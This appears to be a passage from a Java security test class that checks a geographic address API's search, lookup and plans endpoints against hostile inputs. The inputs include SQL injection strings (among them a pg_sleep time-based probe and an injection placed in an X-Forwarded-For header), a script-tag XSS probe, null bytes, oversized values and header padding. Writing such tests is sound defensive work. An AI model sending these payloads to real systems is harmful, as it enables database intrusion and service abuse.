		HostileRequest out = request;
		for (int i = 0; i < 100; i++) {
			out = out.header("X-Padding-" + i, "h".repeat(200));
		}
		return out;
	}

	private void searchText() {
		String fam = SEARCH_TEXT;
		List<String> texts = new ArrayList<>(SQL);
		texts.addAll(List.of("%", "_", "\\", "%' AND pg_sleep(5)--", "幸福小区' OR '1'='1", "\u0000", "a".repeat(2000),
				"\uD83D\uDE00 emoji", "<script>alert(1)</script>"));
		for (String text : texts) {
			add(harmless(fam, "address q " + abbreviate(text), get("/api/v1/addresses?q=" + enc(text)),
					get("/api/v1/addresses?q=" + BENIGN)));
		}
		add(harmless(fam, "X-Forwarded-For injection on a lookup",
				get("/api/v1/lookup?lon=130.8&lat=45.35").header("X-Forwarded-For", "' OR 1=1--"),
				get("/api/v1/lookup?lon=130.8&lat=45.35")));
		add(harmless(fam, "plans parent filter", get("/api/v1/plans?parent=" + enc("230304004001' OR '1'='1")),
				get("/api/v1/plans?parent=230304004999")));
	}

	static String abbreviate(String text) {
		String shown = text.replace("\u0000", "\\0");
		return (shown.length() > 40) ? shown.substring(0, 40) + "…(" + shown.length() + ")" : shown;
	}

}
